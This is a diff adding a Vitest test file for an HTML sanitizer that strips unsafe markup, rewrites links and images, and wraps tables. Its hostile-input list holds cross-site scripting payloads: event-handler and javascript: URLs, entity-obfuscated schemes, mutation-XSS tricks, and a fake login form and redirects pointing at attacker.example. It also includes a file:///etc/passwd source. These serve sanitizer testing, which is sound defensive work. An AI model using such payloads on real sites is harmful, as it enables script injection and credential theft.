@@ -1,0 +1,111 @@
+// @vitest-environment jsdom
+// The library is meant for browsers and jsdom; happy-dom parses too loosely for it.
+import { describe, expect, test } from "vitest";
+import { cleanHtml } from "./clean-html.ts";
+
+const pictureUrl = (path: string): string => new URL(path, "https://api.example/w/1/").href;
+
+function clean(html: string, topHeading: 2 | 3 = 2): HTMLElement {
+  const box = document.createElement("div");
+  box.append(cleanHtml(html, { pictureUrl, topHeading, newWindow: "(opens in a new window)", table: "Table" }));
+  return box;
+}
+
+const ALLOWED = new Set(
+  "P H2 H3 H4 H5 UL OL LI TABLE THEAD TBODY TR TH TD A STRONG EM BR IMG BLOCKQUOTE CODE HR SPAN DIV".split(" "),
+);
+
+describe("hostile HTML leaves nothing that runs, loads by itself, covers or imitates", () => {
+  test.each([
+    `<script>window.__hostile=1</script>`,
+    `<img src="x" onerror="window.__hostile=1">`,
+    `<svg onload="window.__hostile=1"><animate onbegin="window.__hostile=1" attributeName="x" dur="1s"></animate></svg>`,
+    `<a href="javascript:window.__hostile=1">link</a>`,
+    `<a href="&#106;ava&#x09;script:window.__hostile=1">link</a>`,
+    `<a href=" javascript:window.__hostile=1">link</a>`,
+    `<a href="vbscript:x">link</a>`,
+    `<a href="data:text/html,<script>1</script>" target="_blank">link</a>`,
+    `<a href="//attacker.example/">link</a>`,
+    `<iframe srcdoc="<script>1</script>"></iframe>`,
+    `<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">`,
+    `<style>body{display:none!important}</style><link rel="stylesheet" href="https://attacker.example/x.css">`,
+    `<div style="position:fixed;inset:0">a cover</div>`,
+    `<p class="overlay" id="root" name="body" data-scroll dir="rtl" aria-hidden="true">a paragraph</p>`,
+    `<form action="https://attacker.example/"><input name="password" autofocus onfocus="1"><button>Log in</button></form>`,
+    `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">`,
+    `<noscript><p title="</noscript><img src=x onerror=1>"></noscript>`,
+    `<img name="getElementById" src="javascript:1"><img src="data:text/html,x"><img src="https://[">`,
+    `<b><i><table><td>tags that nobody closes`,
+  ])("%s", (html) => {
+    const box = clean(html);
+    for (const element of box.querySelectorAll("*")) {
+      expect(ALLOWED, element.outerHTML).toContain(element.tagName);
+      const ours = element.matches("[data-scroll], [data-outside]");
+      for (const { name, value } of element.attributes) {
+        const allowed = ours
+          ? /^(data-scroll|data-outside|role|aria-label)$/
+          : /^(href|src|alt|title|colspan|rowspan|target|rel|loading|decoding)$/;
+        expect(name, element.outerHTML).toMatch(allowed);
+        expect(value).not.toMatch(/^\s*(javascript|vbscript|data):/i);
+      }
+      if (element.hasAttribute("target")) expect(element.getAttribute("rel")).toBe("noopener noreferrer");
+    }
+    expect("__hostile" in window).toBe(false);
+  });
+});
+
+test("what editors write stays", () => {
+  const html = `<h3>A</h3><p><strong>b</strong> <em>c</em><br>d</p><ul><li>e</li></ul><blockquote>f</blockquote>`;
+  expect(clean(html).innerHTML).toBe(html);
+});
+
+test("b and i become strong and em, h1 the highest heading", () => {
+  expect(clean("<h1>a</h1><p><b>c <i>d</i></b></p>").innerHTML).toBe("<h2>a</h2><p><strong>c <em>d</em></strong></p>");
+});
+
+test("headings move down under a heading of the page", () => {
+  const html = "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4>";
+  expect(clean(html, 3).innerHTML).toBe("<h3>a</h3><h3>b</h3><h4>c</h4><h5>d</h5>");
+});
+
+describe("links", () => {
+  test("outside: a window of its own, without a way back, and said", () => {
+    const link = clean(`<a href="https://example.test/" target="_self" rel="opener">site</a>`).querySelector("a");
+    expect(link?.target).toBe("_blank");
+    expect(link?.rel).toBe("noopener noreferrer");
+    expect(link?.textContent).toBe("site(opens in a new window)");
+  });
+  test.each(["#/product", "mailto:help@example.test"])("%s stays as it is", (href) => {
+    const html = `<a href="${href}">x</a>`;
+    expect(clean(html).innerHTML).toBe(html);
+  });
+  test.each(["product", "/product", "#top", "tel:110", "ftp://example.test/", "https://", ""])(
+    "%s is only text",
+    (href) => {
+      expect(clean(`<p><a href="${href}">x</a></p>`).innerHTML).toBe("<p>x</p>");
+    },
+  );
+});
+
+describe("pictures", () => {
+  test("lie beside the API and load when they come near", () => {
+    const image = clean(`<img src="pictures/a.svg" width="9000" height="9000">`).querySelector("img");
+    expect(image?.getAttribute("src")).toBe("https://api.example/w/1/pictures/a.svg");
+    expect(image?.getAttribute("loading")).toBe("lazy");
+    expect(image?.hasAttribute("alt")).toBe(true);
+    expect(image?.hasAttribute("width")).toBe(false);
+  });
+  test.each(["", "data:image/png;base64,x", "blob:https://example.test/1", "file:///etc/passwd"])(
+    "%s is left out",
+    (src) => {
+      expect(clean(`<p><img src="${src}">x</p>`).innerHTML).toBe("<p>x</p>");
+    },
+  );
+});
+
+test("a table stands in a box that scrolls", () => {
+  const box = clean("<table><tbody><tr><td colspan='2'>x</td></tr></tbody></table>").firstElementChild;
+  expect(box?.getAttribute("aria-label")).toBe("Table");
+  expect(box?.querySelector("td")?.colSpan).toBe(2);
+});
